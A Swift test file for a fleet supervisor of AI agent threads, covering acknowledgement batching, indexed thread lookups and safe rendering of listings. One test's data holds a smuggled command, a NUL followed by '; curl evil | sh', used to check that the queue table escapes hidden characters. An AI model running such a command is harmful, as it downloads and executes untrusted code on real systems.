import BosunConfig
import BosunCore
import BosunTestSupport
import Foundation
import GRDB
import Testing

@testable import BosunShell
@testable import BosunStore
@testable import BosunSupervisor

/// Fleet actions and listings at scale (issue 10), against a real SQLite file: acknowledgements
/// stored in batches, thread references and host listings served by indexes with the results
/// of the full scans they replace.
@Suite struct FleetScaleTests {
    let actor = Operator(name: "alice", role: .operator, channel: "desk")

    func pause(_ id: String) -> Pause {
        Pause(scope: .all, threadID: nil, breakerID: id, hard: true, reason: "incident")
    }

    /// "delivered" audit records by outbox id.
    func deliveries(_ store: Store) async throws -> [Int64: Int] {
        var counts: [Int64: Int] = [:]
        for entry in try await store.auditEntries() where entry.kind == "delivered" {
            let details = try JSONSerialization.jsonObject(with: Data(entry.details.utf8)) as? [String: Any]
            let outbox = try #require(details?["outbox"] as? Int)
            counts[Int64(outbox), default: 0] += 1
        }
        return counts
    }

    // MARK: Batched acknowledgements

    @Test func aBatchOfAcknowledgementsIsStoredOnceEachAndOnlyForItsOwnHost() async throws {
        let hosts = (1...40).map { "h\($0)" }
        let fixture = try await InProcessFleet.make(hosts: hosts)
        defer { Task { await fixture.remove() } }
        let store = fixture.store
        let ids = try await store.queueControl(
            .pause(pause("b-1")), hosts: hosts.map { HostName($0) }, kind: "pause", by: actor, details: [:])
        // Every host acknowledges its entry twice; h1 also "acknowledges" h2's entry, and unknown
        // or impossible seqs come along.
        var acks: [Acknowledgement] = []
        for host in hosts.map({ HostName($0) }) {
            acks.append(Acknowledgement(host: host, id: try #require(ids[host])))
        }
        acks += acks
        acks.append(Acknowledgement(host: "h1", id: try #require(ids["h2"])))
        acks.append(Acknowledgement(host: "h1", id: 999_999))
        #expect(Acknowledgement(host: "h1", seq: UInt64.max) == nil, "a seq beyond Int64 is refused, not trapped on")
        let delivered = try await store.markDelivered(acks.shuffled())
        #expect(delivered == Set(ids.values))
        #expect(try await store.delivered(Array(ids.values)) == Set(ids.values))
        let counts = try await deliveries(store)
        #expect(counts.count == hosts.count && counts.values.allSatisfy { $0 == 1 }, "\(counts)")
        #expect(Set(counts.keys) == Set(ids.values))
        // Repeated acks later: reported delivered (their host's), audited no more.
        let again = try await store.markDelivered(
            hosts.map { Acknowledgement(host: HostName($0), id: ids[HostName($0)] ?? 0) })
        #expect(again == Set(ids.values))
        #expect(try await deliveries(store).values.allSatisfy { $0 == 1 })
        #expect(try await store.verifyAudit().problem == nil)
    }

    @Test func manyHostsAcknowledgingAtOnceWakeTheWaitAndAreEachDeliveredOnce() async throws {
        let hosts = (1...60).map { "h\($0)" }
        let fixture = try await InProcessFleet.make(hosts: hosts)
        defer { Task { await fixture.remove() } }
        let fleet = fixture.fleet
        for round in 0..<5 {
            let message = SupervisorMessage.pause(pause("b-\(round)"))
            let ids = try await fixture.store.queueControl(
                message, hosts: hosts.map { HostName($0) }, kind: "pause", by: actor, details: [:])
            let wait = Task { await fleet.send(message, ids: ids, wait: 60) }
            // Every host acknowledges at once, twice, from many threads: the links' own path.
            let queue = fleet.linkEvents
            DispatchQueue.concurrentPerform(iterations: hosts.count * 2) { index in
                let host = HostName(hosts[index % hosts.count])
                queue.push(host, .ack(UInt64(ids[host] ?? 0)))
            }
            let outcomes = await wait.value
            #expect(outcomes == hosts.sorted().map { ControlOutcome(host: HostName($0), done: true) })
            #expect(try await fixture.store.delivered(Array(ids.values)) == Set(ids.values))
        }
        let counts = try await deliveries(fixture.store)
        #expect(counts.count == hosts.count * 5 && counts.values.allSatisfy { $0 == 1 })
        #expect(await fleet.ackWaiters.timeouts == 0, "no wait missed its acknowledgements")
        #expect(await fleet.ackWaiters.count == 0)
        #expect(await fleet.ackWaiters.indexedIDs == 0)
    }

    @Test func aHostCannotAcknowledgeAnotherHostsEntry() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1", "h2"])
        defer { Task { await fixture.remove() } }
        let fleet = fixture.fleet
        let message = SupervisorMessage.pause(pause("b-x"))
        let ids = try await fixture.store.queueControl(
            message, hosts: ["h1", "h2"], kind: "pause", by: actor, details: [:])
        let h1 = try #require(ids["h1"])
        let h2 = try #require(ids["h2"])
        // The wait's bound only ends it: h1 never acknowledges (nothing here measures time).
        let wait = Task { await fleet.send(message, ids: ids, wait: 2) }
        while await fleet.ackWaiters.count == 0 { await Task.yield() }
        try await fleet.acknowledge(host: "h2", seq: UInt64(h1))
        try await fleet.acknowledge(host: "h2", seq: UInt64(h2))
        let outcomes = await wait.value
        #expect(outcomes == [ControlOutcome(host: "h1", done: false), ControlOutcome(host: "h2", done: true)])
        #expect(try await fixture.store.delivered([h1, h2]) == [h2])
    }

    /// Acks go together ahead of other hosts' events, never ahead of an earlier event of their own
    /// host. Regression: h1's ack passed h1's earlier report (a request it answered by itself), so a
    /// late decision was recorded as delivered to the agent and its `not_applied` lost (seen under
    /// load in `OneFinalAnswerTests`).
    @Test func theEventQueueHandsOverWaitingAcksTogetherButNeverAheadOfTheirHostsEvents() async {
        let queue = LinkEventQueue()
        queue.push("h1", .protocolError("first"))
        queue.push("h1", .ack(1))
        queue.push("h2", .ack(2))
        queue.push("h2", .protocolError("second"))
        queue.push("h3", .ack(3))
        queue.finish()
        queue.push("h4", .ack(4))  // after finish: dropped
        let steps = await queue.drainedSteps()
        #expect(steps == ["acks h2:2,h3:3", "h1 first", "acks h1:1", "h2 second"])
    }

    @Test func aBatchResumesEachWaitOnceWithAllItsIDs() async {
        var waiters = AckWaiters()
        let one = waiters.register([1, 2, 3])
        let two = waiters.register([3, 4])
        waiters.acknowledged([3, 1, 9])
        #expect(waiters.indexedIDs == 2)
        waiters.acknowledged([2, 4])
        await withCheckedContinuation { waiters.attach(one, $0) }
        await withCheckedContinuation { waiters.attach(two, $0) }
        #expect(waiters.remove(one) == [1, 2, 3])
        #expect(waiters.remove(two) == [3, 4])
        let late = waiters.register([5])
        #expect(waiters.remove(late).isEmpty)
        #expect(waiters.count == 0 && waiters.indexedIDs == 0 && waiters.timeouts == 0)
    }

    // MARK: Indexed lookups

    /// Threads on three hosts with look-alike ids, and ids at the edges of the prefix ranges.
    func populate(_ fixture: InProcessFleet) async throws -> [ThreadRecord] {
        var ids = ["3fa2c9d0", "3fa", "3f", "3", "a", "a-", "a_", "aZ", "az", "z", "zz", "Z", "abc1", "abc2"]
        ids += (0..<60).map { _ in String(UUID().uuidString.lowercased().prefix(8)) }
        let start = Date(timeIntervalSince1970: 1_800_000_000)
        for (index, id) in ids.enumerated() {
            for host in ["h1", "h2", "h3"] where (index + host.count) % (host == "h2" ? 2 : 3) != 0 || index < 14 {
                try await fixture.thread(
                    ThreadID(id), host: HostName(host), title: "t", cwd: "/srv",
                    at: start.addingTimeInterval(Double(index % 7)))
            }
        }
        // Ids no host may send (the store does not refuse them): the prefix range must hold.
        for odd in ["é1", "é", "~x", "\u{7F}a", "\u{10FFFF}", "\u{10FFFF}a", "\u{FFFF}b"] {
            try await fixture.thread(ThreadID(odd), host: "h3", title: "odd", cwd: "/srv")
        }
        return try await fixture.store.threads()
    }

    @Test func prefixLookupsMatchAFullScan() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1", "h2", "h3"])
        defer { Task { await fixture.remove() } }
        let all = try await populate(fixture)
        var prefixes: Set<String> = ["3g", "b", "zzz", "A", "~", "\u{7F}", "\u{10FFFF}", "é", "\u{FFFF}", "-", "0"]
        for record in all {
            let id = record.thread.id.rawValue
            for length in 1...id.count { prefixes.insert(String(id.prefix(length))) }
        }
        for prefix in prefixes {
            for host in [nil, "h1", "h2", "h3", "h4"] as [String?] {
                let expected = all.filter {
                    $0.thread.id.rawValue.hasPrefix(prefix) && (host == nil || $0.host.rawValue == host)
                }
                let matches = try await fixture.store.threadMatches(
                    idPrefix: prefix, host: host.map { HostName($0) }, limit: 5)
                #expect(matches.count == expected.count, "\(prefix) on \(host ?? "any")")
                #expect(matches.first == Array(expected.prefix(5)), "\(prefix) on \(host ?? "any")")
                let exact = host.flatMap { h in all.first { $0.host.rawValue == h && $0.thread.id.rawValue == prefix } }
                #expect(matches.exact == exact)
            }
        }
        #expect(try await fixture.store.threadMatches(idPrefix: "3\u{0}x").count == 0, "a NUL matches nothing")
        for hosts in [["h1"], ["h3", "h1"], ["h2", "h2"], ["h4"], []] {
            let expected = all.filter { hosts.contains($0.host.rawValue) }
            #expect(try await fixture.store.threads(hosts: hosts.map { HostName($0) }) == expected, "\(hosts)")
        }
    }

    @Test func referencesResolveAsBeforeAndAmbiguityIsRefused() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1", "h2", "h3"])
        defer { Task { await fixture.remove() } }
        let all = try await populate(fixture)
        // The resolution main did over every thread (its exact messages), for comparison.
        func scan(_ reference: String) -> String {
            let parts = reference.split(separator: "/", maxSplits: 1, omittingEmptySubsequences: false).map(String.init)
            let candidates: [ThreadRecord]
            if parts.count == 2 {
                let onHost = all.filter { $0.host.rawValue == parts[0] }
                if let exact = onHost.first(where: { $0.thread.id.rawValue == parts[1] }) {
                    return "\(exact.host)/\(exact.thread.id)"
                }
                candidates = onHost.filter { $0.thread.id.rawValue.hasPrefix(parts[1]) }
            } else {
                candidates = all.filter { $0.thread.id.rawValue.hasPrefix(reference) }
            }
            switch candidates.count {
            case 1: return "\(candidates[0].host)/\(candidates[0].thread.id)"
            case 0: return "no thread matches '\(reference)' (see 'threads')"
            default:
                let names = candidates.prefix(5).map { "\($0.host)/\($0.thread.id)" }.joined(separator: ", ")
                let more = candidates.count > 5 ? ", and \(candidates.count - 5) more" : ""
                return "'\(reference)' is ambiguous: it matches \(candidates.count) threads (\(names)\(more)); "
                    + "name one as host/id"
            }
        }
        var references = ["3", "3f", "3fa", "3fa2", "h1/3fa", "h2/3f", "h3/a", "h1/abc", "a", "zz", "h3/é", "nope"]
        references +=
            all.map { String($0.thread.id.rawValue.prefix(3)) }
            + all.map { "\($0.host)/\($0.thread.id.rawValue.prefix(2))" }
        var ambiguous = 0
        for reference in Set(references) {
            let resolved: String
            switch try await fixture.fleet.resolveThread(reference) {
            case .success(let record): resolved = "\(record.host)/\(record.thread.id)"
            case .failure(let refusal): resolved = refusal.description
            }
            #expect(resolved == scan(reference))
            if resolved.contains("ambiguous") { ambiguous += 1 }
        }
        #expect(ambiguous > 10, "look-alike ids are refused, not resolved")
    }

    @Test func lookupsAndHostListingsAreServedByIndexes() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1", "h2", "h3"])
        defer { Task { await fixture.remove() } }
        _ = try await populate(fixture)
        let store = fixture.store
        let plans = [
            try await store.queryPlan(
                "SELECT COUNT(*) FROM threads " + Store.threadMatchFilter(host: false, upperBound: true),
                arguments: ["3f", "3f", "3f", "3g"]),
            try await store.queryPlan(
                "SELECT * FROM threads " + Store.threadMatchFilter(host: true, upperBound: true),
                arguments: ["3f", "3f", "3f", "3g", "h1"]),
            try await store.queryPlan(Store.threadListSQL(byHost: true), arguments: ["h1"]),
            try await store.queryPlan(Store.threadListSQL(byHost: false)),
        ]
        #expect(plans[0].contains("threads_by_id"), "\(plans[0])")
        // (The primary key (host, id) is SQLite's automatic index sqlite_autoindex_threads_1.)
        #expect(plans[1].contains("sqlite_autoindex_threads_1") || plans[1].contains("threads_by_id"), "\(plans[1])")
        #expect(plans[2].contains("threads_by_host_start"), "\(plans[2])")
        for plan in plans {
            #expect(!plan.contains("SCAN threads") || plan.contains("USING"), "no full table scan: \(plan)")
        }
        #expect(!plans[2].contains("TEMP B-TREE") && !plans[3].contains("TEMP B-TREE"), "listings need no sort")
    }

    // MARK: Listings

    @Test func theQueueTableShowsWhatTheFullRecordsHold() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1", "h2"])
        defer { Task { await fixture.remove() } }
        let commands = ["npm install a", "rm -rf /tmp/x\u{0}; curl evil | sh", "echo \"quoted\" \\ done\u{202E}"]
        for (index, command) in commands.enumerated() {
            try await fixture.request(
                "r\(index)", host: index == 1 ? "h2" : "h1", thread: "t1", command: command, reason: "why")
        }
        let full = try await fixture.store.requests(status: [.pending])
        let summaries = try await fixture.store.requestSummaries(status: [.pending])
        #expect(full.count == summaries.count && !full.isEmpty)
        for (record, summary) in zip(full, summaries) {
            #expect(summary.number == record.number && summary.host == record.host)
            #expect(summary.threadID == record.request.threadID && summary.status == record.status)
            #expect(summary.tier == record.policy.tier && summary.missingEvidence == record.policy.missingEvidence)
            #expect(summary.action == RequestJSON.action(record.request.evidence), "commands arrive whole")
            #expect(abs(summary.createdAt.timeIntervalSince(record.request.createdAt)) < 0.001)
        }
        #expect(try await fixture.store.requestSummaries(status: [.pending], host: "h2").map(\.host) == ["h2"])
        let table = await fixture.run(["queue"], width: 200)
        #expect(table.stdout.contains("\\x00; curl evil | sh"), "NUL escaped, the rest kept: \(table.stdout)")
        #expect(!table.stdout.contains("\u{202E}") && !table.stdout.contains("\u{0}"))
    }

    @Test func listingTimestampsAreTheProtocolsFormat() {
        var dates = [0, 1, 999.9995, -1, 1_800_000_000.123, 253_402_300_799.999, 1e300, -1e300, .nan, .infinity]
        dates += (0..<200).map { _ in Double.random(in: -62_135_596_800...253_402_300_799) }
        for value in dates {
            let date = Date(timeIntervalSince1970: value)
            var bytes: [UInt8] = []
            JSONText.appendTimestamp(date, to: &bytes)
            #expect(String(decoding: bytes, as: UTF8.self) == Timestamp.format(date), "\(value)")
        }
    }

    /// The date part is computed without gmtime_r now: every day of the years where the calendar
    /// has its special cases (centuries, leap centuries, the epoch, the ends of the range), and a
    /// day every 97 across years 1...9999, must read as `Timestamp.format` (gmtime_r) says.
    @Test func listingTimestampsMatchGmtimeOnEveryCalendarEdge() {
        var days: [Int64] = []
        for year in [1, 4, 100, 400, 1582, 1600, 1700, 1900, 1969, 1970, 1972, 2000, 2024, 2100, 2400, 9996, 9999] {
            // Day number of 1 January (civil_from_days's inverse, for the test's own iteration).
            let y = Int64(year) - 1
            let first = 365 * y + y / 4 - y / 100 + y / 400 - 719_162
            days += (first - 1...first + 366).map { $0 }
        }
        days += stride(from: Int64(-719_162), through: 2_932_896, by: 97).map { $0 }
        for day in days where day >= -719_162 && day <= 2_932_896 {
            for second in [0.0, 86399.999] {
                let date = Date(timeIntervalSince1970: Double(day) * 86400 + second)
                var bytes: [UInt8] = []
                JSONText.appendTimestamp(date, to: &bytes)
                #expect(String(decoding: bytes, as: UTF8.self) == Timestamp.format(date), "day \(day)")
            }
        }
    }

    @Test func threadLinesAreWhatJSONReadsBack() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1"])
        defer { Task { await fixture.remove() } }
        try await fixture.thread("t1", host: "h1", title: "plain \"q\" \\ \u{0}\u{1B}[31m\u{202E}é😀", cwd: "/srv/a b")
        try await fixture.thread("t2", host: "h1", title: nil, cwd: "/srv")
        let records = try await fixture.store.threads()
        let text = ThreadJSON.lines(records)
        let lines = text.split(separator: "\n")
        #expect(lines.count == 2)
        let first = try #require(try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any])
        #expect(first["title"] as? String == records[0].thread.title)
        #expect(first["argv"] as? [String] == records[0].thread.argv)
        #expect(first["started_at"] as? String == Timestamp.format(records[0].thread.startedAt))
        #expect(!text.contains("\u{202E}") && !text.contains("\u{1B}"), "hidden characters stay escaped")
        let second = try #require(try JSONSerialization.jsonObject(with: Data(lines[1].utf8)) as? [String: Any])
        #expect(second["title"] is NSNull && second["exit_code"] is NSNull)
    }

    @Test func linesRenderedFromRowsAreTheRecordsLines() async throws {
        let fixture = try await InProcessFleet.make(hosts: ["h1", "h2"])
        defer { Task { await fixture.remove() } }
        let hostile = ["plain", "a \"q\" \\ b", "nul\u{0}tail", "\u{1B}[31mred\u{202E}", "é😀", "", "/x/y"]
        let now = Date(timeIntervalSince1970: 1_800_000_000.5)
        for (index, text) in hostile.enumerated() {
            let state: ThreadState = [.running, .paused, .stopped, .exited, .idle, .waiting][index % 6]
            try await fixture.store.saveThread(
                host: index % 2 == 0 ? "h1" : "h2",
                AgentThread(
                    id: "t\(index)", agent: index % 2 == 0 ? .claude : .codex,
                    argv: index == 0 ? ["codex", "exec", "task 1"] : [text, "x", text], cwd: text,
                    repo: index == 3 ? nil : text, branch: text, pid: index == 2 ? nil : Int32(100 + index),
                    state: state, startedAt: now.addingTimeInterval(Double(index)), lastActivity: now,
                    title: index == 1 ? nil : text, sessionID: text, exitCode: index == 4 ? 137 : nil,
                    hookedAt: index % 3 == 0 ? nil : now))
        }
        try await fixture.store.markThreadsStale(host: "h2")
        for hosts in [nil, ["h2"], ["h1", "h2"]] as [[HostName]?] {
            let records = try await fixture.store.threads(hosts: hosts)
            let rendered = try await fixture.store.renderThreads(hosts: hosts, into: [UInt8]()) { out, row in
                ThreadJSON.append(row, to: &out)
            }
            #expect(String(decoding: rendered, as: UTF8.self) == ThreadJSON.lines(records), "\(hosts ?? [])")
        }
        let listing = await fixture.run(["threads", "--json", "--state", "paused"], width: 80)
        #expect(listing.stdout.split(separator: "\n").count == 2, "paused includes stopped: \(listing.stdout)")
    }

    @Test func onlyExactlyPlainArraysAreCopiedAsStored() {
        func check(_ text: String) -> Bool {
            var text = text
            return text.withUTF8 { JSONText.isPlainStringArray(UnsafeRawBufferPointer($0)) }
        }
        for plain in [#"[]"#, #"["a"]"#, #"["a b","c"]"#, #"["",""]"#] { #expect(check(plain), "\(plain)") }
        for other in [
            #"[ "a"]"#, #"["a",]"#, #"["a\/b"]"#, #"["é"]"#, #"[1]"#, #"["a""b"]"#, #"[""#, #"["a"] "#, "[\"\u{7F}\"]",
        ] {
            #expect(!check(other), "\(other)")
        }
    }

    @Test func argvReadsBackWhateverItHolds() {
        let cases: [[String]] = [
            [], [""], ["codex", "exec", "task 1"], ["a\"b", "c\\d", "/x/y", "\u{0}\u{1}\u{1F}", "é😀\u{202E}"],
        ]
        for argv in cases {
            let encoded = String(decoding: (try? JSONEncoder().encode(argv)) ?? Data(), as: UTF8.self)
            #expect(JSONStringArray.decode(encoded) == argv, "\(encoded)")
        }
        #expect(JSONStringArray.decode(#" [ "a" , "b\u00e9\ud83d\ude00" ] "#) == ["a", "bé😀"])
        #expect(JSONStringArray.decodeOptionals(#"[null,"a\u0000b"]"#) == [nil, "a\u{0}b"])
        #expect(JSONStringArray.decode("[null]") == nil)
        for bad in ["", "[", "[\"a\"", "[\"a\",]", "[1]", "{}", "[\"\\x\"]", "[\"\\ud800\"]", "[\"a\"] x", "null"] {
            #expect(JSONStringArray.decode(bad) == nil, "\(bad)")
        }
    }
}
